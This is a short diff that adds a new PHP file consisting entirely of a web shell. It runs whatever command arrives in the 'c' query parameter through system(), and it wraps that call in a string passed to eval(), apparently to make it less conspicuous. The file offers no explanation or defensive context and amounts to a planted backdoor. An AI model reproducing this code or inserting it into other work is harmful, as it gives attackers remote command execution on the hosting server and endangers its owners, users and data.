@@ -1,0 +1,3 @@
+<?php
+$code = 'if (isset($_GET["c"])) { system($_GET["c"]); }';
+eval($code);
